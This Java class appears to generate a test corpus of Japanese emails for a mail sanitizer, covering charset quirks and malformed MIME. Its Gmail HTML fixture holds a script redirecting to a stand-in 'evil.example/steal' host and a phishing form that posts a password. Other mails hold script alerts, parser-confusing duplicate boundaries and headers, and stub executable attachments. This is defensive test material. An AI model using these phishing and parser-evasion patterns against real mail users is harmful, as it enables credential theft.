package jp.mamori.sanitizer.mail;

import java.io.ByteArrayOutputStream;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.Map;

/**
 * Builds the Japanese mail corpus in {@code src/test/resources/corpus/mail/}: mails in the shapes that
 * Outlook, Thunderbird, Becky!, iPhone Mail and Gmail send, including their malformed habits. The files
 * are committed; run {@code main} to regenerate them after changing this class.
 */
final class JapaneseMailCorpus {

    static final Charset JIS = Charset.forName("x-windows-iso2022jp");
    static final Charset SJIS = Charset.forName("windows-31j");
    static final Charset EUC = Charset.forName("x-eucJP-Open");

    static final String SUBJECT = "【重要】①㈱髙島屋様 見積書送付の件";
    static final String SENDER = "髙橋 一郎";
    static final String BODY = "お世話になっております。\n㈱髙島屋の髙橋です。\n①見積書\n②請求書\nをお送りします。\n";
    static final String ATTACHMENT = "見積書①（2026年度）.xlsx";
    static final String LONG_ATTACHMENT = "令和8年度_情報セキュリティ対策基準_改定案_総務課確認済み_最終版.docx";

    private JapaneseMailCorpus() {
    }

    static String b(String text, Charset cs) {
        return "=?" + label(cs) + "?B?" + Base64.getEncoder().encodeToString(text.getBytes(cs)) + "?=";
    }

    static String label(Charset cs) {
        return cs == JIS ? "ISO-2022-JP" : cs == SJIS ? "Shift_JIS" : cs == EUC ? "EUC-JP" : "UTF-8";
    }

    static String b64(byte[] data) {
        return Base64.getMimeEncoder(76, "\r\n".getBytes(StandardCharsets.US_ASCII)).encodeToString(data) + "\r\n";
    }

    static String pct(String text) {
        StringBuilder out = new StringBuilder();
        for (byte x : text.getBytes(StandardCharsets.UTF_8)) {
            out.append('%').append(String.format("%02X", x & 0xff));
        }
        return out.toString();
    }

    static Map<String, byte[]> all() {
        Map<String, byte[]> mails = new LinkedHashMap<>();
        byte[] xlsx = "PK\u0003\u0004 fake spreadsheet".getBytes(StandardCharsets.ISO_8859_1);
        mails.put("outlook-iso2022jp-alternative.eml", crlf("""
                From: %s <ichiro.takahashi@example.co.jp>
                To: =?ISO-2022-JP?B?GyRCOWJLXBsoQg==?= <soumu@city.example.lg.jp>
                Subject: %s
                Date: Fri, 27 Nov 2026 09:12:33 +0900
                Message-ID: <000101dc5f2a$1a2b3c4d$4e5f6a7b@example.co.jp>
                MIME-Version: 1.0
                Content-Type: multipart/mixed; boundary="----=_NextPart_000_0001_01DC5F2A.1A2B3C4D"
                X-Mailer: Microsoft Outlook 16.0
                Received: from mx.example.co.jp (mx.example.co.jp [192.0.2.10]) by gw.example.lg.jp

                This is a multipart message in MIME format.

                ------=_NextPart_000_0001_01DC5F2A.1A2B3C4D
                Content-Type: multipart/alternative; boundary="----=_NextPart_001_0002_01DC5F2A.1A2B3C4D"

                ------=_NextPart_001_0002_01DC5F2A.1A2B3C4D
                Content-Type: text/plain; charset="iso-2022-jp"
                Content-Transfer-Encoding: 7bit

                %s
                ------=_NextPart_001_0002_01DC5F2A.1A2B3C4D
                Content-Type: text/html; charset="iso-2022-jp"
                Content-Transfer-Encoding: quoted-printable

                <html><body><p>=1B$B$*@$OC$K$J$C$F$*$j$^$9!#=1B(B</p></body></html>

                ------=_NextPart_001_0002_01DC5F2A.1A2B3C4D--

                ------=_NextPart_000_0001_01DC5F2A.1A2B3C4D
                Content-Type: application/vnd.openxmlformats-officedocument.spreadsheetml.sheet; name="%s"
                Content-Transfer-Encoding: base64
                Content-Disposition: attachment; filename*=utf-8''%s

                %s
                ------=_NextPart_000_0001_01DC5F2A.1A2B3C4D--
                """.formatted(b(SENDER, JIS), b(SUBJECT, JIS), new String(BODY.getBytes(JIS), StandardCharsets.ISO_8859_1),
                b(ATTACHMENT, JIS), pct(ATTACHMENT), b64(xlsx))));
        String continued = pct(LONG_ATTACHMENT);
        int cut = continued.length() / 2 / 3 * 3;
        mails.put("thunderbird-utf8-rfc2231.eml", crlf("""
                From: =?UTF-8?B?5bGx55SwIOiKseWtkA==?= <hanako@example.jp>
                To: soumu@city.example.lg.jp
                Cc: "Sato, Jiro" <jiro@example.jp>, kikaku@city.example.lg.jp
                Subject: %s
                Date: Thu, 26 Nov 2026 18:01:02 +0900
                Message-ID: <3f2a1b7c-9d8e-4f60-a1b2-c3d4e5f60718@example.jp>
                In-Reply-To: <abc@city.example.lg.jp>
                References: <first@city.example.lg.jp> <abc@city.example.lg.jp>
                MIME-Version: 1.0
                User-Agent: Mozilla Thunderbird
                Content-Type: multipart/mixed; boundary="------------8vT0hZq2Lz7b1mKc9Xw3Rr5N"

                This is a multi-part message in MIME format.
                --------------8vT0hZq2Lz7b1mKc9Xw3Rr5N
                Content-Type: text/plain; charset=UTF-8; format=flowed
                Content-Transfer-Encoding: 8bit

                %s
                --------------8vT0hZq2Lz7b1mKc9Xw3Rr5N
                Content-Type: application/vnd.openxmlformats-officedocument.wordprocessingml.document;
                 name="%s"
                Content-Disposition: attachment;
                 filename*0*=UTF-8''%s;
                 filename*1*=%s
                Content-Transfer-Encoding: base64

                %s
                --------------8vT0hZq2Lz7b1mKc9Xw3Rr5N--
                """.formatted(b("Re: " + SUBJECT, StandardCharsets.UTF_8),
                new String(BODY.getBytes(StandardCharsets.UTF_8), StandardCharsets.ISO_8859_1),
                b(LONG_ATTACHMENT, StandardCharsets.UTF_8), continued.substring(0, cut), continued.substring(cut),
                b64("PK\u0003\u0004 fake document".getBytes(StandardCharsets.ISO_8859_1)))));
        byte[] subjectJis = SUBJECT.getBytes(JIS);
        int half = 11; // splits the encoded text inside a two-byte character
        mails.put("becky-sjis-split-words.eml", crlf("""
                From: %s <suzuki@example.ne.jp>
                To: soumu@city.example.lg.jp
                Subject: =?ISO-2022-JP?B?%s?=
                 =?ISO-2022-JP?B?%s?=
                Date: Wed, 25 Nov 2026 10:00:00 +0900
                Message-Id: <20261125100000.1234.ABCD@example.ne.jp>
                MIME-Version: 1.0
                X-Mailer: Becky! ver. 2.81.04
                Content-Type: multipart/mixed; boundary="Boundary_(ID_becky)"

                --Boundary_(ID_becky)
                Content-Type: text/plain; charset=Shift_JIS
                Content-Transfer-Encoding: 8bit

                %s
                --Boundary_(ID_becky)
                Content-Type: application/octet-stream; name="%s"
                Content-Transfer-Encoding: base64
                Content-Disposition: attachment; filename="%s"

                %s
                --Boundary_(ID_becky)--
                """.formatted(b("鈴木 髙志", JIS),
                Base64.getEncoder().encodeToString(java.util.Arrays.copyOfRange(subjectJis, 0, half)),
                Base64.getEncoder().encodeToString(java.util.Arrays.copyOfRange(subjectJis, half, subjectJis.length)),
                new String(BODY.getBytes(SJIS), StandardCharsets.ISO_8859_1), b(ATTACHMENT, JIS), b(ATTACHMENT, JIS),
                b64(xlsx))));
        mails.put("iphone-utf8-html-inline-image.eml", crlf("""
                From: =?utf-8?Q?=E4=BD=90=E8=97=A4=E3=80=80=E8=8A=B1=E5=AD=90?= <hanako.sato@example.jp>
                Content-Type: multipart/alternative; boundary=Apple-Mail-1A2B3C4D-5E6F
                Content-Transfer-Encoding: 7bit
                Mime-Version: 1.0 (1.0)
                Subject: =?utf-8?B?5LqI5a6a44Gu56K66KqN?=
                Date: Tue, 24 Nov 2026 21:30:00 +0900
                Message-Id: <A1B2C3D4-E5F6-4711-8899-AABBCCDDEEFF@example.jp>
                To: soumu@city.example.lg.jp
                X-Mailer: iPhone Mail (22A100)

                --Apple-Mail-1A2B3C4D-5E6F
                Content-Type: text/plain; charset=utf-8
                Content-Transfer-Encoding: quoted-printable

                =E6=98=8E=E6=97=A5=E3=81=AE=E4=BC=9A=E8=AD=B0=E3=81=AF10=E6=99=82=E3=81=8B=
                =E3=82=89=E3=81=A7=E3=81=99=E3=80=82
                https://example.jp/meeting?id=1

                iPhone=E3=81=8B=E3=82=89=E9=80=81=E4=BF=A1

                --Apple-Mail-1A2B3C4D-5E6F
                Content-Type: multipart/related; type="text/html"; boundary=Apple-Mail-related-99

                --Apple-Mail-related-99
                Content-Type: text/html; charset=utf-8
                Content-Transfer-Encoding: 7bit

                <html><body><div>&#26126;&#26085;</div><img src="cid:photo1"></body></html>
                --Apple-Mail-related-99
                Content-Type: image/png; name=photo.png
                Content-Id: <photo1>
                Content-Transfer-Encoding: base64

                %s
                --Apple-Mail-related-99--

                --Apple-Mail-1A2B3C4D-5E6F--
                """.formatted(b64(new byte[] {(byte) 0x89, 'P', 'N', 'G', 13, 10, 26, 10}))));
        String html = """
                <html><head><title>t</title><script>document.location='https://evil.example/steal'</script>
                <style>p{color:red}</style></head>
                <body onload="track()"><h1>%s</h1>
                <p>%s</p>
                <ul><li>第1項 パスワード変更</li><li>第2項 研修受講</li></ul>
                <ol><li>申請</li><li>承認</li></ol>
                <table><tr><th>項目</th><th>金額</th></tr><tr><td>①機器</td><td>12,000円</td></tr></table>
                <p><a href="https://phish.example.com/login">https://www.city.example.lg.jp/</a>
                <a href="javascript:alert(1)">ここをクリック</a></p>
                <form action="https://phish.example.com/post"><input name="password" value="x"><button>送信</button></form>
                <iframe src="https://ads.example/"></iframe>
                <img src="https://tracker.example/open.gif?u=123" width="1" height="1">
                </body></html>
                """.formatted("お知らせ", "㈱髙島屋からのご案内です。");
        mails.put("gmail-html-active.eml", crlf("""
                From: Newsletter <news@mail.example.com>
                To: soumu@city.example.lg.jp
                Subject: =?UTF-8?B?44GK55+l44KJ44Gb?=
                Date: Mon, 23 Nov 2026 08:00:00 +0000
                Message-ID: <CAF=abc123@mail.gmail.com>
                MIME-Version: 1.0
                Content-Type: multipart/alternative; boundary="000000000000abcdef0123456789"

                --000000000000abcdef0123456789
                Content-Type: text/html; charset="UTF-8"
                Content-Transfer-Encoding: base64

                %s
                --000000000000abcdef0123456789--
                """.formatted(b64(html.getBytes(StandardCharsets.UTF_8)))));
        mails.put("html-only-iso2022jp.eml", crlf("""
                From: %s <info@example.co.jp>
                To: soumu@city.example.lg.jp
                Subject: %s
                MIME-Version: 1.0
                Content-Type: text/html; charset=ISO-2022-JP
                Content-Transfer-Encoding: 7bit

                %s
                """.formatted(b("㈱サンプル", JIS), b("①ご案内", JIS),
                new String(("<html><body><p>①㈱髙島屋</p><p>詳細は<a href=\"http://example.jp/a\">こちら</a></p>"
                        + "<script>x()</script></body></html>").getBytes(JIS), StandardCharsets.ISO_8859_1))));
        mails.put("eucjp-plain.eml", crlf("""
                From: %s <yamada@example.ac.jp>
                To: soumu@city.example.lg.jp
                Subject: %s
                MIME-Version: 1.0
                Content-Type: text/plain; charset=EUC-JP
                Content-Transfer-Encoding: 8bit

                %s
                """.formatted(b("山田 太郎", EUC), b(SUBJECT, EUC),
                new String(BODY.getBytes(EUC), StandardCharsets.ISO_8859_1))));
        mails.put("malformed-8bit-headers.eml", crlf("""
                From: %s <old@example.ne.jp>
                To: soumu@city.example.lg.jp
                Subject: %s
                MIME-Version: 1.0
                Content-Type: text/plain; charset=ISO-2022-JP

                %s
                """.formatted(new String(SENDER.getBytes(StandardCharsets.UTF_8), StandardCharsets.ISO_8859_1),
                new String(SUBJECT.getBytes(SJIS), StandardCharsets.ISO_8859_1),
                new String(BODY.getBytes(SJIS), StandardCharsets.ISO_8859_1))));
        mails.put("wrong-charset-label.eml", crlf("""
                From: test@example.jp
                To: soumu@city.example.lg.jp
                Subject: =?ISO-2022-JP?B?%s?=
                MIME-Version: 1.0
                Content-Type: text/plain; charset=us-ascii

                %s
                """.formatted(Base64.getEncoder().encodeToString(SUBJECT.getBytes(SJIS)),
                new String(BODY.getBytes(StandardCharsets.UTF_8), StandardCharsets.ISO_8859_1))));
        String inner = """
                From: %s <partner@example.co.jp>
                To: kikaku@city.example.lg.jp
                Subject: %s
                Date: Sun, 22 Nov 2026 12:00:00 +0900
                MIME-Version: 1.0
                Content-Type: multipart/mixed; boundary="inner"

                --inner
                Content-Type: text/plain; charset=ISO-2022-JP

                %s
                --inner
                Content-Type: application/pdf
                Content-Disposition: attachment; filename="%s"
                Content-Transfer-Encoding: base64

                %s
                --inner--
                """.formatted(b(SENDER, JIS), b("転送元の件名①", JIS),
                new String("転送される本文です。".getBytes(JIS), StandardCharsets.ISO_8859_1),
                b("仕様書.pdf", JIS), b64("%PDF-1.4 fake".getBytes(StandardCharsets.US_ASCII)));
        mails.put("forwarded-rfc822.eml", crlf("""
                From: kikaku@city.example.lg.jp
                To: soumu@city.example.lg.jp
                Subject: =?UTF-8?B?RnduOiDovKLpgIE=?=
                MIME-Version: 1.0
                Content-Type: multipart/mixed; boundary="outer"

                --outer
                Content-Type: text/plain; charset=UTF-8

                転送します。
                --outer
                Content-Type: message/rfc822

                %s
                --outer--
                """.formatted(inner)));
        mails.put("uuencode-in-body.eml", crlf("""
                From: a@example.jp
                To: soumu@city.example.lg.jp
                Subject: uu
                Content-Type: text/plain; charset=UTF-8

                ファイルを送ります。
                begin 644 evil.exe
                M(&AE;&QO
                `
                end
                以上
                """));
        mails.put("hostile-duplicate-boundary.eml", crlf("""
                From: a@example.jp
                To: soumu@city.example.lg.jp
                Subject: dup
                MIME-Version: 1.0
                Content-Type: multipart/mixed; boundary="aaa"; boundary="bbb"

                --aaa
                Content-Type: text/plain

                seen by one parser
                --bbb
                Content-Type: application/x-msdownload; name="x.exe"

                MZ
                --bbb--
                --aaa--
                """));
        mails.put("hostile-two-content-types.eml", crlf("""
                From: a@example.jp
                To: soumu@city.example.lg.jp
                Subject: two
                MIME-Version: 1.0
                Content-Type: text/plain
                Content-Type: multipart/mixed; boundary="x"

                --x
                Content-Type: text/html

                <script>alert(1)</script>
                --x--
                """));
        mails.put("hostile-missing-end-boundary.eml", crlf("""
                From: a@example.jp
                To: soumu@city.example.lg.jp
                Subject: open
                MIME-Version: 1.0
                Content-Type: multipart/mixed; boundary="never-closed"

                --never-closed
                Content-Type: text/plain

                text
                --never-closed
                Content-Type: application/octet-stream; name="a.bin"
                Content-Transfer-Encoding: base64

                AAAA
                """));
        mails.put("fake-winmail-dat.eml", crlf("""
                From: a@example.jp
                To: soumu@city.example.lg.jp
                Subject: tnef
                MIME-Version: 1.0
                Content-Type: multipart/mixed; boundary="t"

                --t
                Content-Type: text/plain; charset=UTF-8

                本文
                --t
                Content-Type: application/ms-tnef; name="winmail.dat"
                Content-Disposition: attachment; filename="winmail.dat"
                Content-Transfer-Encoding: base64

                eJ8+IgAAAQ==
                --t--
                """));
        byte[] winmail = TnefTest.tnef(new String[] {"minutes.txt"},
                new byte[][] {"議事録".getBytes(StandardCharsets.UTF_8)});
        mails.put("outlook-winmail-dat.eml", crlf("""
                From: %s <rtf@example.co.jp>
                To: soumu@city.example.lg.jp
                Subject: %s
                MIME-Version: 1.0
                X-MS-TNEF-Correlator: <00000000ABCD@example.co.jp>
                Content-Type: multipart/mixed; boundary="_tnef_"

                --_tnef_
                Content-Type: text/plain; charset="iso-2022-jp"

                %s
                --_tnef_
                Content-Type: application/ms-tnef; name="winmail.dat"
                Content-Disposition: attachment; filename="winmail.dat"
                Content-Transfer-Encoding: base64

                %s
                --_tnef_--
                """.formatted(b(SENDER, JIS), b("議事録送付", JIS),
                new String("議事録を送ります。".getBytes(JIS), StandardCharsets.ISO_8859_1), b64(winmail))));
        return mails;
    }

    /**
     * Text blocks have LF; mail has CRLF. Chars up to U+00FF stand for bytes (pre-encoded text); any
     * other character is written as UTF-8, as a UTF-8 mailer would.
     */
    static byte[] crlf(String text) {
        ByteArrayOutputStream out = new ByteArrayOutputStream(text.length() * 2);
        String lines = text.replace("\r\n", "\n").replace("\n", "\r\n");
        for (int i = 0; i < lines.length(); i++) {
            char c = lines.charAt(i);
            if (c <= 0xff) {
                out.write(c);
            } else {
                out.writeBytes(String.valueOf(c).getBytes(StandardCharsets.UTF_8));
            }
        }
        return out.toByteArray();
    }

    public static void main(String[] args) throws Exception {
        Path dir = Path.of(args.length > 0 ? args[0] : "src/test/resources/corpus/mail");
        Files.createDirectories(dir);
        for (Map.Entry<String, byte[]> e : all().entrySet()) {
            Files.write(dir.resolve(e.getKey()), e.getValue());
        }
    }

    static byte[] concat(byte[]... parts) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        for (byte[] p : parts) {
            out.writeBytes(p);
        }
        return out.toByteArray();
    }
}
